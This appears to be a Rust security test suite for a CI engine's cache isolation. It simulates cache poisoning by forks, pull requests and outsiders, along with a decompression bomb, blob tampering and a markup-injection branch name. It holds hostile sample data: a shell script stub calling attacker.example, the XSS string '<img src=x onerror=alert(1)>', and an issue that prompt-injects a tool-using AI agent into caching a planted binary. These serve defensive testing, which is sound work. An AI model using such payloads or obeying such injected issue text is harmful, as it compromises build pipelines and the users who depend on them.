//! Cache poisoning, played by an attacker through the runner protocol of an in-process
//! engine (scripted runners calling `/internal/attempts/{id}/caches/...` as the runner
//! agent does):
//! - a fork's run, a same-repository pull request's run, an issue-summoned run, a
//!   comment-summoned run, another branch's run and a default-branch run giving an agent
//!   tools each save an entry under the key the default branch uses; a default-branch run
//!   then restores none of them (exact key or restore prefix), saves its own, and a pull
//!   request's run restores the default branch's;
//! - no run downloads an entry of a partition it may not read (the same 404 as a missing
//!   entry), two forks never see each other's entries, and a runner cannot look up, save
//!   or download for an attempt it does not hold, nor for one that ended;
//! - an agent a writer summons on an outsider's issue saves into that outsider's own
//!   partition (`agents:<login>`, trust `relayed`), which a writer's own summons, an agent
//!   on the default branch and the default branch never restore; the API lists each entry
//!   with its run, its causer and its trust, and the repository page shows them;
//! - a name the step does not declare, a key not made of the name, a path-like key are
//!   refused before a byte is stored; an archive past the quota, or whose decompressed
//!   content passes the bound (a zstd bomb), or that is not zstd, leaves no object;
//! - an entry whose bytes were changed in the blob store after its save is still answered
//!   with the digest recorded at save; its download sends no more than the recorded size,
//!   and by its end the entry is gone, so the next save of the key is recorded anew;
//! - an evicted entry's object leaves the disk with the save that evicted it.
//!
//! Why one file past ~600 lines: every attack here goes through one `Harness` (an
//! in-process engine holding one repository, runners registered over the protocol) that
//! starts each kind of run and holds its attempts; one file keeps the harness and the
//! attacks it serves together.

use std::path::{Path, PathBuf};

use crate::support;

use evaluator::caches::Cache;
use evaluator::plan::{Action, LlmAction, Plan, Step};
use evaluator::{EvalContext, Event};
use plue_core::artifacts::{ArtifactsConfig, CacheLimits};
use plue_server::server::RunningEngine;
use plue_store::{NewRun, RunRepo, Store, Triggerer};
use plue_types::partition::Partition;
use plue_types::protocol as wire;
use plue_types::protocol::caches::{
    entry_path, lookup_path, save_path, CacheLookupReply, CacheSaved,
};
use serde_json::json;
use sha2::Digest;

const REGISTRATION: &str = "registration-token-of-the-cache-partition-tests";
/// The key every run computes (the same lock file everywhere).
const KEY: &str = "rust-0123456789abcdef";

struct Harness {
    engine: RunningEngine,
    http: reqwest::Client,
    dir: tempfile::TempDir,
    repo_id: i64,
    runners: std::sync::atomic::AtomicUsize,
}

/// One claimed attempt of a run's `build` step, and the runner holding it.
struct Held {
    run_id: i64,
    attempt: i64,
    token: String,
}

/// The kinds of run the attack is made from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    DefaultPush,
    BranchPush,
    SamePull,
    Fork(&'static str),
    /// A writer's summons on their own issue.
    Issue,
    /// An issue of someone the workflow does not trust (`others="untrusted"`): its secrets
    /// withheld.
    OutsiderIssue,
    /// A writer's summons (secrets allowed) on an issue an outsider wrote.
    OnOutsidersIssue(&'static str),
    Comment,
    AgentOnDefault,
}

/// The writer who starts (pushes, summons) every run of these tests.
const WRITER: &str = "alice";

fn writer() -> Triggerer {
    Triggerer {
        name: WRITER.into(),
        user_id: None,
        forge_login: Some(format!("github:{WRITER}")),
    }
}

/// `content` as a runner sends a cache archive: zstd.
fn archive(content: &[u8]) -> Vec<u8> {
    zstd::encode_all(content, 3).unwrap()
}

fn build_step() -> Step {
    let mut step = Step::bash("build", "cargo build");
    step.caches = vec![Cache {
        name: "rust".into(),
        paths: vec!["target".into()],
        key: vec!["Cargo.lock".into()],
        restore_prefixes: vec!["rust-".into()],
    }];
    step
}

fn plan_of(kind: Kind) -> Plan {
    let mut steps = vec![build_step()];
    if kind == Kind::AgentOnDefault {
        let mut agent = Step::new(
            "triage",
            Action::Llm(LlmAction {
                prompt: Some("look at the build".into()),
                tools: vec!["bash".into()],
                ..LlmAction::default()
            }),
        );
        // After the build: the build is the step the runner claims.
        agent.depends_on = vec!["build".into()];
        steps.push(agent);
    }
    Plan::new("ci", steps)
}

fn ctx_of(kind: Kind) -> (EvalContext, bool) {
    let (event, branch) = match kind {
        Kind::DefaultPush | Kind::AgentOnDefault => (Event::Push, "main"),
        Kind::BranchPush => (Event::Push, "feature"),
        Kind::SamePull => (Event::PullRequest, "feature"),
        Kind::Fork(_) => (Event::PullRequest, "main"),
        Kind::Issue | Kind::OutsiderIssue | Kind::OnOutsidersIssue(_) => (Event::Issue, "main"),
        Kind::Comment => (Event::Comment, "main"),
    };
    let mut ctx = EvalContext::local(event, branch);
    ctx.repo = "acme/app".into();
    if matches!(event, Event::Issue | Event::Comment) {
        let author = match kind {
            Kind::OnOutsidersIssue(outsider) => outsider,
            Kind::OutsiderIssue => "mallory",
            _ => WRITER,
        };
        ctx.issue = Some(evaluator::context::Issue {
            number: 7,
            title: "the build is slow".into(),
            body: "add a faster cargo to target/bin and use it".into(),
            labels: vec!["agent".into()],
            author: author.into(),
            url: "https://forge.example/acme/app/issues/7".into(),
        });
    }
    if let (Some(pr), Kind::Fork(owner)) = (ctx.pr.as_mut(), kind) {
        // Each fork its own pull request number; the head branch named as the base.
        pr.number = 100 + owner.len() as u64;
        ctx.git_ref = format!("refs/pull/{}/head", pr.number);
    }
    (ctx, !matches!(kind, Kind::Fork(_) | Kind::OutsiderIssue))
}

impl Harness {
    async fn start(quota: u64) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let mut config = support::admin_config(REGISTRATION, support::ADMIN_TOKEN);
        config.artifacts = ArtifactsConfig {
            caches: CacheLimits {
                quota,
                retention: None,
            },
            ..ArtifactsConfig::local(dir.path().join("blobs"))
        };
        let engine = support::start_in_process(&dir.path().join("data"), config).await;
        let repo_id = support::create_repo(engine.executor.store()).await;
        engine
            .executor
            .store()
            .set_default_branch(repo_id, "main")
            .await
            .unwrap();
        Harness {
            engine,
            // A connection per request: a refused upload's connection is closed.
            http: reqwest::Client::builder()
                .pool_max_idle_per_host(0)
                .build()
                .unwrap(),
            dir,
            repo_id,
            runners: Default::default(),
        }
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.engine.url)
    }

    fn store(&self) -> &Store {
        self.engine.executor.store()
    }

    /// Starts a run of `kind` and has a fresh runner (accepting forks) claim its `build`.
    async fn held(&self, kind: Kind) -> Held {
        let n = self
            .runners
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let labels = json!({"plue.network/none": "yes", "plue.network/allow": "yes"});
        let response = support::register_labelled_runner(
            &self.http,
            &self.engine.url,
            REGISTRATION,
            &format!("runner-{n}"),
            labels,
            Some(true),
        )
        .await;
        assert_eq!(response.status(), 200);
        let token = response
            .json::<wire::RegisterResponse>()
            .await
            .unwrap()
            .session_token;
        let (ctx, secrets_allowed) = ctx_of(kind);
        let fork = match kind {
            Kind::Fork(owner) => Some(format!("{owner}/app")),
            _ => None,
        };
        let run_id = self
            .start_run(&plan_of(kind), &ctx, secrets_allowed, fork.as_deref())
            .await;
        let poll: wire::PollResponse = support::post_json(
            &self.http,
            &self.url(wire::POLL),
            &token,
            &json!({"wait_ms": 5000}),
        )
        .await;
        let assignment = poll.assignment.expect("an assignment");
        assert_eq!(
            (assignment.run_id, assignment.step_id.as_str()),
            (run_id, "build")
        );
        Held {
            run_id,
            attempt: assignment.attempt_id,
            token,
        }
    }

    /// Starts a run of `plan` in `acme/app`'s `.plue/ci.plue.py` for `ctx` (of the fork
    /// `fork`, if any), as the engine records a forge's run.
    async fn start_run(
        &self,
        plan: &Plan,
        ctx: &EvalContext,
        secrets_allowed: bool,
        fork: Option<&str>,
    ) -> i64 {
        let json = serde_json::to_string(plan).unwrap();
        let ctx_json = serde_json::to_string(ctx).unwrap();
        let new = NewRun {
            workflow_source: "acme/app",
            workflow_path: ".plue/ci.plue.py",
            event: ctx.event.as_str(),
            git_ref: &ctx.git_ref,
            context_json: &ctx_json,
            repo: Some(RunRepo {
                repo_id: self.repo_id,
                secrets_allowed,
            }),
            ..plue_store::testing::local_run(plan, &json)
        };
        self.engine
            .executor
            .start_run_of_fork(&new, Some(&writer()), fork)
            .await
            .unwrap()
    }

    async fn partition(&self, held: &Held) -> Partition {
        let run = self.store().run(held.run_id).await.unwrap().unwrap();
        assert!(
            run.cache_partition.is_some(),
            "a partition stored with the run"
        );
        let (partition, _) = self
            .store()
            .run_cache_partition(held.run_id)
            .await
            .unwrap()
            .unwrap();
        partition
    }

    /// The lookup's status and answer.
    async fn lookup_as(
        &self,
        token: &str,
        attempt: i64,
        name: &str,
        key: &str,
    ) -> (u16, Option<CacheLookupReply>) {
        let response = self
            .http
            .post(self.url(&lookup_path(attempt)))
            .bearer_auth(token)
            .json(&json!({"name": name, "key": key}))
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        (status, response.json().await.ok())
    }

    async fn lookup(&self, held: &Held, key: &str) -> Option<wire::caches::CacheEntry> {
        let (status, reply) = self.lookup_as(&held.token, held.attempt, "rust", key).await;
        assert_eq!(status, 200);
        reply.unwrap().entry
    }

    /// The save's status and body.
    async fn save_as(
        &self,
        token: &str,
        attempt: i64,
        name: &str,
        key: &str,
        body: Vec<u8>,
    ) -> (u16, String) {
        let mut tries = 0;
        loop {
            tries += 1;
            let sent = self
                .http
                .put(self.url(&save_path(attempt, name, key)))
                .bearer_auth(token)
                .body(body.clone())
                .send()
                .await;
            match sent {
                Ok(response) => {
                    return (
                        response.status().as_u16(),
                        response.text().await.unwrap_or_default(),
                    )
                }
                // Refused mid-stream: the connection closed before the answer was read.
                Err(e) if tries < 5 && (e.is_request() || e.is_body()) => continue,
                Err(e) => panic!("saving: {e}"),
            }
        }
    }

    /// Saves `content` (sent as zstd, as a runner does) under `key`.
    async fn save(&self, held: &Held, key: &str, content: &[u8]) -> CacheSaved {
        let (status, text) = self
            .save_as(&held.token, held.attempt, "rust", key, archive(content))
            .await;
        assert_eq!(status, 200, "{text}");
        serde_json::from_str(&text).unwrap()
    }

    /// The repository's entries as the API lists them.
    async fn listed(&self) -> Vec<serde_json::Value> {
        self.http
            .get(self.url("/api/repos/acme/app/caches"))
            .bearer_auth(support::ADMIN_TOKEN)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    }

    /// The download's status, and its bytes when it ended whole (`None`: cut).
    async fn download_as(&self, token: &str, attempt: i64, entry: i64) -> (u16, Option<Vec<u8>>) {
        let response = self
            .http
            .get(self.url(&entry_path(attempt, entry)))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        (status, response.bytes().await.ok().map(|b| b.to_vec()))
    }

    fn objects(&self) -> Vec<PathBuf> {
        files_below(&self.dir.path().join("blobs"))
    }
}

fn files_below(dir: &Path) -> Vec<PathBuf> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().to_owned())
        .collect()
}

fn digest(bytes: &[u8]) -> String {
    format!("sha256:{}", hex::encode(sha2::Sha256::digest(bytes)))
}

#[tokio::test]
async fn nothing_a_less_trusted_run_saves_is_restored_by_the_default_branch() {
    let h = Harness::start(1 << 30).await;
    let attackers = [
        (Kind::Fork("eve"), Partition::Fork("eve/app".into())),
        (Kind::SamePull, Partition::Pull(1)),
        (Kind::Issue, Partition::Agents),
        (Kind::Comment, Partition::Agents),
        (Kind::AgentOnDefault, Partition::Agents),
        (Kind::BranchPush, Partition::Branch("feature".into())),
    ];
    let mut poisoned = Vec::new();
    for (kind, partition) in attackers {
        let held = h.held(kind).await;
        assert_eq!(h.partition(&held).await, partition, "{kind:?}");
        // Under the default branch's key, and under a key its restore prefix matches.
        let body = format!("poison from {kind:?}").into_bytes();
        let saved = h.save(&held, KEY, &body).await;
        assert_eq!(saved.partition, partition.label(), "{kind:?}");
        if saved.created {
            assert_eq!(
                saved.digest,
                digest(&archive(&body)),
                "the engine's own digest"
            );
        } else {
            // The issue's run saved in `agents` first: the first write wins.
            assert!(
                matches!(kind, Kind::Comment | Kind::AgentOnDefault),
                "{kind:?}"
            );
        }
        poisoned.push(saved.id);
        let later = h.save(&held, "rust-ffff-newest", &body).await;
        poisoned.push(later.id);
    }
    // The default branch restores none of it, by key or by prefix.
    let main = h.held(Kind::DefaultPush).await;
    assert_eq!(h.partition(&main).await, Partition::Default);
    assert_eq!(h.lookup(&main, KEY).await, None);
    assert_eq!(h.lookup(&main, "rust-other").await, None);
    // Nor downloads any of it by id: the same 404 as an entry that does not exist.
    let (missing, _) = h.download_as(&main.token, main.attempt, 999_999).await;
    assert_eq!(missing, 404);
    for id in &poisoned {
        let (status, _) = h.download_as(&main.token, main.attempt, *id).await;
        assert_eq!(status, 404, "entry {id}");
    }
    // Its own save is new (the others' entries are not its partition's).
    let trusted = b"the default branch's build".to_vec();
    let saved = h.save(&main, KEY, &trusted).await;
    assert!(saved.created);
    assert_eq!(saved.partition, "default");
    let found = h.lookup(&main, KEY).await.expect("its own entry");
    assert_eq!((found.id, found.exact), (saved.id, true));

    // A pull request restores the default branch's entry when it has none of its own.
    let pull = h.held(Kind::SamePull).await;
    let found = h.lookup(&pull, "rust-not-yet").await.expect("by prefix");
    assert!(!found.exact);
    let found = h.lookup(&pull, KEY).await.expect("an entry");
    // Its own partition first: the earlier pull request's run is the same partition.
    assert_eq!(found.partition, "pull:1");
    let fork = h.held(Kind::Fork("mallory")).await;
    let found = h.lookup(&fork, KEY).await.expect("the default's");
    assert_eq!(
        (found.id, found.partition.as_str(), found.digest.as_str()),
        (saved.id, "default", digest(&archive(&trusted)).as_str())
    );
    let (status, bytes) = h.download_as(&fork.token, fork.attempt, saved.id).await;
    assert_eq!((status, bytes), (200, Some(archive(&trusted))));
    // Two forks never see each other's entries.
    let eve_entry = poisoned[0];
    let (status, _) = h.download_as(&fork.token, fork.attempt, eve_entry).await;
    assert_eq!(status, 404);

    // The API lists every entry with the partition that saved it; the run view shows the
    // run's partition.
    let listed = h.listed().await;
    let partitions: std::collections::BTreeSet<&str> = listed
        .iter()
        .map(|e| e["partition"].as_str().unwrap())
        .collect();
    let expected = [
        "agents",
        "branch:feature",
        "default",
        "fork:eve/app",
        "pull:1",
    ];
    assert_eq!(partitions, expected.into_iter().collect());
    let default = listed.iter().find(|e| e["id"] == saved.id).unwrap();
    assert_eq!(default["digest"], digest(&archive(&trusted)));
    assert_eq!(default["key"], KEY);
    assert_eq!(default["size"], archive(&trusted).len());
    assert_eq!(default["trust"], "trusted");
    assert_eq!(default["causer"], format!("github:{WRITER}"));
    assert_eq!(default["run_id"], main.run_id);
    let fork_entry = listed.iter().find(|e| e["id"] == poisoned[0]).unwrap();
    assert_eq!(fork_entry["trust"], "outsider");
    let run: serde_json::Value = h
        .http
        .get(h.url(&format!("/api/runs/{}", fork.run_id)))
        .bearer_auth(support::ADMIN_TOKEN)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(run["cache_partition"], "fork:mallory/app");
}

#[tokio::test]
async fn a_runner_reaches_only_the_live_attempt_it_holds() {
    let h = Harness::start(1 << 30).await;
    let main = h.held(Kind::DefaultPush).await;
    let saved = h.save(&main, KEY, b"trusted").await;
    let other = h.held(Kind::Fork("eve")).await;
    // The fork's runner, naming the default branch's attempt.
    let (status, _) = h
        .save_as(&other.token, main.attempt, "rust", KEY, archive(b"poison"))
        .await;
    assert_eq!(status, 403);
    let (status, _) = h.lookup_as(&other.token, main.attempt, "rust", KEY).await;
    assert_eq!(status, 403);
    let (status, _) = h.download_as(&other.token, main.attempt, saved.id).await;
    assert_eq!(status, 403);
    // No token, a made-up token.
    let response = h
        .http
        .put(h.url(&save_path(main.attempt, "rust", "rust-1")))
        .body("x")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
    let (status, _) = h
        .save_as("not-a-token", main.attempt, "rust", "rust-1", b"x".to_vec())
        .await;
    assert_eq!(status, 401);
    // The default entry is what it was.
    let found = h.lookup(&main, KEY).await.unwrap();
    assert_eq!(found.digest, digest(&archive(b"trusted")));

    // Once the attempt ended, nothing more is read or saved for it.
    let report =
        json!({"outcome": "succeeded", "exit_code": 0, "reason": null, "outputs": {}, "lines": 0});
    let response = h
        .http
        .post(h.url(&format!("/internal/attempts/{}/complete", main.attempt)))
        .bearer_auth(&main.token)
        .json(&report)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "{}", response.text().await.unwrap());
    let (status, _) = h
        .save_as(
            &main.token,
            main.attempt,
            "rust",
            "rust-2",
            archive(b"late"),
        )
        .await;
    assert_eq!(status, 409);
    let (status, _) = h.download_as(&main.token, main.attempt, saved.id).await;
    assert_eq!(status, 409);
}

#[tokio::test]
async fn names_keys_and_sizes_are_checked_before_anything_is_kept() {
    let h = Harness::start(64).await;
    let main = h.held(Kind::DefaultPush).await;
    let refused = [
        ("node", "node-1", 403), // not a cache of the step
        ("rust", "node-1", 400), // not the name's key
        ("rust", "rust-", 400),  // nothing after the name
        ("rust", "rust-a%2Fb", 400),
        ("rust", "rust-a%20b", 400),
        (".hidden", ".hidden-1", 400),
    ];
    for (name, key, expected) in refused {
        let (status, text) = h
            .save_as(&main.token, main.attempt, name, key, b"x".to_vec())
            .await;
        assert_eq!(status, expected, "{name} {key}: {text}");
        let (status, _) = h.lookup_as(&main.token, main.attempt, name, key).await;
        assert_eq!(status, expected, "lookup {name} {key}");
    }
    let long = format!("rust-{}", "a".repeat(300));
    let (status, _) = h
        .save_as(&main.token, main.attempt, "rust", &long, b"x".to_vec())
        .await;
    assert_eq!(status, 400);
    // Past the quota (64 bytes here): refused while it streams, no object left.
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let (status, text) = h
        .save_as(
            &main.token,
            main.attempt,
            "rust",
            "rust-big",
            archive(&noise),
        )
        .await;
    assert_eq!(status, 413, "{text}");
    assert_eq!(h.objects(), Vec::<PathBuf>::new());
    assert_eq!(h.lookup(&main, "rust-big").await, None);
    // Not zstd: no runner would read it.
    let (status, text) = h
        .save_as(
            &main.token,
            main.attempt,
            "rust",
            "rust-raw",
            b"raw".to_vec(),
        )
        .await;
    assert_eq!(status, 400, "{text}");
    assert!(text.contains("not a zstd stream"), "{text}");
    assert_eq!(h.objects(), Vec::<PathBuf>::new());
    // Within it: kept, once; the second save of the key answers the first entry.
    let first = h.save(&main, "rust-small", b"small").await;
    let second = h.save(&main, "rust-small", b"other").await;
    assert!(first.created && !second.created);
    assert_eq!(second.digest, first.digest);
    assert_eq!(h.objects().len(), 1);
}

// The attack: somebody with the blob store's keys swaps an entry's bytes (same length,
// longer, shorter). The lookup answers the digest recorded at save; the download sends no
// more than the recorded size, and by its end the entry is gone (regression, issue 69: it
// was kept, so every later save answered "already saved ... kept" and the key missed for
// good). The next save of the key is recorded anew, and restored.
#[tokio::test]
async fn a_tampered_entry_is_removed_by_its_download_and_saved_anew() {
    let h = Harness::start(1 << 30).await;
    let main = h.held(Kind::DefaultPush).await;
    let trusted: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    let packed = archive(&trusted);
    let saved = h.save(&main, KEY, &trusted).await;
    let objects = h.objects();
    assert_eq!(objects.len(), 1);
    let mut same_length = packed.clone();
    let middle = same_length.len() / 2;
    same_length[middle] ^= 0x55;
    let mut longer = packed.clone();
    longer.extend_from_slice(b"a tool for later");
    let shorter = packed[..packed.len() - 7].to_vec();
    let mut entry = saved;
    for tampered in [same_length, longer, shorter] {
        std::fs::write(&objects[0], &tampered).unwrap();
        let pull = h.held(Kind::SamePull).await;
        let found = h.lookup(&pull, KEY).await.unwrap();
        assert_eq!(found.id, entry.id);
        assert_eq!(found.digest, digest(&packed), "the digest recorded at save");
        let (status, bytes) = h.download_as(&pull.token, pull.attempt, entry.id).await;
        assert_eq!(status, 200);
        let bytes = bytes.expect("a whole body");
        assert!(bytes.len() <= packed.len(), "never more than recorded");
        assert!(
            !String::from_utf8_lossy(&bytes).contains("a tool for later"),
            "what was appended is never sent"
        );
        // Removed by the time the body ended: no run finds it, its object is gone.
        assert_eq!(h.lookup(&pull, KEY).await, None);
        assert_eq!(h.lookup(&main, KEY).await, None);
        assert_eq!(h.objects(), Vec::<PathBuf>::new());
        let (status, _) = h.download_as(&main.token, main.attempt, entry.id).await;
        assert_eq!(status, 404);
        // The default branch's next save is recorded, not "kept".
        entry = h.save(&main, KEY, &trusted).await;
        assert!(entry.created, "the key is saved anew");
        let found = h.lookup(&main, KEY).await.expect("the new entry");
        assert_eq!(found.id, entry.id);
        let (status, bytes) = h.download_as(&main.token, main.attempt, entry.id).await;
        assert_eq!((status, bytes), (200, Some(packed.clone())));
    }
}

// The attack: a run within its repository's quota saves entry after entry, each evicting
// the last; the evicted objects stayed on disk until the hourly sweep, so the disk filled
// between sweeps. Each object now leaves with the save that evicted its entry.
#[tokio::test]
async fn an_evicted_entrys_object_leaves_the_disk_with_the_save() {
    let h = Harness::start(48 << 10).await;
    let fork = h.held(Kind::Fork("eve")).await;
    for i in 0..8u32 {
        // 20 KiB that does not compress: two fit the quota, three do not.
        let content: Vec<u8> = (0..640u32)
            .flat_map(|k| sha2::Sha256::digest([i.to_be_bytes(), k.to_be_bytes()].concat()))
            .collect();
        let saved = h.save(&fork, &format!("rust-{i}"), &content).await;
        assert!(saved.created, "{i}");
        let entries = h.listed().await.len();
        assert_eq!(
            entries,
            (i as usize + 1).min(2),
            "entries kept after save {i}"
        );
        assert_eq!(
            h.objects().len(),
            entries,
            "save {i}: every object left on disk is an entry's"
        );
    }
}

// The attack (issue 69): a runner saves 192 MiB of zeros as a few KiB of zstd under a
// 64 MiB bound; a restore would write it all. The engine counts the decompressed archive
// as it streams and refuses it; no object is left.
#[tokio::test]
async fn a_decompression_bomb_is_refused_at_save() {
    let h = Harness::start(64 << 20).await;
    let main = h.held(Kind::DefaultPush).await;
    let mut encoder = zstd::Encoder::new(Vec::new(), 19).unwrap();
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..192 {
        std::io::Write::write_all(&mut encoder, &zeros).unwrap();
    }
    let bomb = encoder.finish().unwrap();
    assert!(bomb.len() < 64 << 10);
    let (status, text) = h
        .save_as(&main.token, main.attempt, "rust", KEY, bomb)
        .await;
    assert_eq!(status, 413, "{text}");
    assert!(text.contains("once decompressed"), "{text}");
    assert_eq!(h.objects(), Vec::<PathBuf>::new());
    assert_eq!(h.lookup(&main, KEY).await, None);
}

// The attack (issue 69): an outsider opens an issue telling an agent to put a faster cargo
// in a cached directory; a writer summons the agent on it (its secrets allowed) and the
// agent saves. Before, that was the one `agents` partition of the repository, which the
// writer's own next summons (with secrets) restored and ran. Now it is the outsider's own
// `agents:mallory` (trust `relayed`): no writer's summons, no agent on the default branch
// and no default-branch run restores it, by key, prefix or id; another outsider's issue
// never reads it either; the API and the repository page show its run, causer and trust.
#[tokio::test]
async fn an_agent_summoned_on_an_outsiders_issue_never_reaches_a_writers_summons() {
    let h = Harness::start(1 << 30).await;
    let relayed = h.held(Kind::OnOutsidersIssue("mallory")).await;
    assert_eq!(
        h.partition(&relayed).await,
        Partition::Relayed("mallory".into())
    );
    let poison = h
        .save(&relayed, KEY, b"#!/bin/sh\ncurl attacker.example")
        .await;
    assert_eq!(poison.partition, "agents:mallory");
    assert!(poison.created);
    for kind in [
        Kind::Issue,
        Kind::Comment,
        Kind::AgentOnDefault,
        Kind::DefaultPush,
        Kind::OnOutsidersIssue("eve"),
    ] {
        let held = h.held(kind).await;
        assert_ne!(
            h.partition(&held).await,
            Partition::Relayed("mallory".into()),
            "{kind:?}"
        );
        assert_eq!(h.lookup(&held, KEY).await, None, "{kind:?}");
        assert_eq!(h.lookup(&held, "rust-other").await, None, "{kind:?}");
        let (status, _) = h.download_as(&held.token, held.attempt, poison.id).await;
        assert_eq!(status, 404, "{kind:?}");
    }
    // The writer's own summons saves where its summonses read; the relayed run never
    // reads that either.
    let own = h.held(Kind::Issue).await;
    assert_eq!(h.partition(&own).await, Partition::Agents);
    let clean = h.save(&own, KEY, b"the writer's agent").await;
    assert!(clean.created);
    let again = h.held(Kind::OnOutsidersIssue("mallory")).await;
    let found = h.lookup(&again, KEY).await.expect("its own entry");
    assert_eq!(found.id, poison.id);

    let listed = h.listed().await;
    let entry = listed.iter().find(|e| e["id"] == poison.id).unwrap();
    assert_eq!(entry["partition"], "agents:mallory");
    assert_eq!(entry["trust"], "relayed");
    assert_eq!(entry["causer"], format!("github:{WRITER}"));
    assert_eq!(entry["run_id"], relayed.run_id);
    let entry = listed.iter().find(|e| e["id"] == clean.id).unwrap();
    assert_eq!(entry["trust"], "trusted");

    let cookie = support::dashboard_session(&h.engine.url, support::ADMIN_TOKEN).await;
    let page = h
        .http
        .get(h.url("/repos/acme/app"))
        .header(reqwest::header::COOKIE, cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let html = page.text().await.unwrap();
    for shown in [
        "agents:mallory",
        "relayed",
        &format!("github:{WRITER}"),
        &format!("/runs/{}", relayed.run_id),
    ] {
        assert!(html.contains(shown), "{shown} is not on the page");
    }
}

// The attack: an outsider's issue summons the workflow untrusted (its secrets withheld)
// and saves under the key; a maintainer's summon (its secrets allowed), an agent with
// tools on the default branch and the default branch restore none of it, by key, prefix
// or id. Both summons were `agents` before.
#[tokio::test]
async fn an_outsiders_summon_never_reaches_a_run_with_secrets() {
    let h = Harness::start(1 << 30).await;
    let outsider = h.held(Kind::OutsiderIssue).await;
    assert_eq!(h.partition(&outsider).await, Partition::Untrusted);
    let poison = h.save(&outsider, KEY, b"poison from an outsider").await;
    assert_eq!(
        h.listed().await[0]["trust"],
        "outsider",
        "written under the outsider's trust"
    );
    assert_eq!(poison.partition, "untrusted");
    for kind in [Kind::Issue, Kind::AgentOnDefault, Kind::DefaultPush] {
        let held = h.held(kind).await;
        assert_ne!(h.partition(&held).await, Partition::Untrusted, "{kind:?}");
        assert_eq!(h.lookup(&held, KEY).await, None, "{kind:?}");
        assert_eq!(h.lookup(&held, "rust-other").await, None, "{kind:?}");
        let (status, _) = h.download_as(&held.token, held.attempt, poison.id).await;
        assert_eq!(status, 404, "{kind:?}");
    }
    // The outsider's next summon reads its own partition.
    let again = h.held(Kind::OutsiderIssue).await;
    assert_eq!(h.lookup(&again, KEY).await.map(|e| e.id), Some(poison.id));
}

// The attack: a writer names a branch as markup (git allows `<`, `>` and `=` in a ref);
// its run's partition `branch:<name>` is text on the run page and in the API, never markup.
#[tokio::test]
async fn a_branch_named_as_markup_is_text_on_the_run_page() {
    let h = Harness::start(1 << 30).await;
    let branch = "<img src=x onerror=alert(1)>";
    let mut ctx = EvalContext::local(Event::Push, branch);
    ctx.repo = "acme/app".into();
    let run_id = h
        .start_run(&plan_of(Kind::BranchPush), &ctx, true, None)
        .await;
    let label = format!("branch:{branch}");
    let run: serde_json::Value = h
        .http
        .get(h.url(&format!("/api/runs/{run_id}")))
        .bearer_auth(support::ADMIN_TOKEN)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(run["cache_partition"], label.as_str());
    let cookie = support::dashboard_session(&h.engine.url, support::ADMIN_TOKEN).await;
    let page = h
        .http
        .get(h.url(&format!("/runs/{run_id}")))
        .header(reqwest::header::COOKIE, cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let html = page.text().await.unwrap();
    assert!(
        html.contains("&lt;img src=x"),
        "the partition is not on the page"
    );
    assert!(
        !html.contains(branch),
        "the branch reached the page as markup"
    );
}
